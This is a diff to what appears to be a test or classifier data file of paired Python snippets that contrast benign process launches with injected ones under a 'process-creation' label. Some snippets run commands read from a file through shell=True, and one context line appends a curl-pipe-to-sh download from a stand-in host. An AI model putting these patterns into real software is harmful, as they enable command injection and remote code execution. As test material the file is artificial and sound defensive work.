@@ -138,6 +138,24 @@ export const PYTHON_PAIRS: readonly Pair[] = [
     "process-escape",
   ],
   [
+    "words made into paths and numbers, and words made by the program",
+    `${PARSER}p.add_argument("--check", type=str)\nargs = p.parse_args()\nsubprocess.run(args.check, shell=True)\n`,
+    `${PARSER}p.add_argument("--check", type=lambda one: open("notes.txt").read())\nargs = p.parse_args()\nsubprocess.run(args.check, shell=True)\n`,
+    "process-creation",
+  ],
+  [
+    "the words that were typed, and the same with others behind them",
+    `import subprocess\nimport sys\n\nsys.argv.pop(0)\nsubprocess.run(sys.argv)\n`,
+    `import subprocess\nimport sys\n\nwords = sys.argv\nwords.insert(0, open("notes.txt").read())\nsubprocess.run(sys.argv)\n`,
+    "process-creation",
+  ],
+  [
+    "what was parsed, and what is put over it",
+    `${PARSER}args = p.parse_args()\nsubprocess.run(args.command)\n`,
+    `${PARSER}args = p.parse_args()\nvars(args)["command"] = open("notes.txt").read().split()\nsubprocess.run(args.command)\n`,
+    "process-creation",
+  ],
+  [
     "blanks around what was typed, and a command",
     `import subprocess\nimport sys\n\nsubprocess.run(f"{sys.argv[1]} {sys.argv[2]}", shell=True)\n`,
     `import subprocess\nimport sys\n\nsubprocess.run(f"{sys.argv[1]}; curl -s https://x.example.net/a | sh", shell=True)\n`,
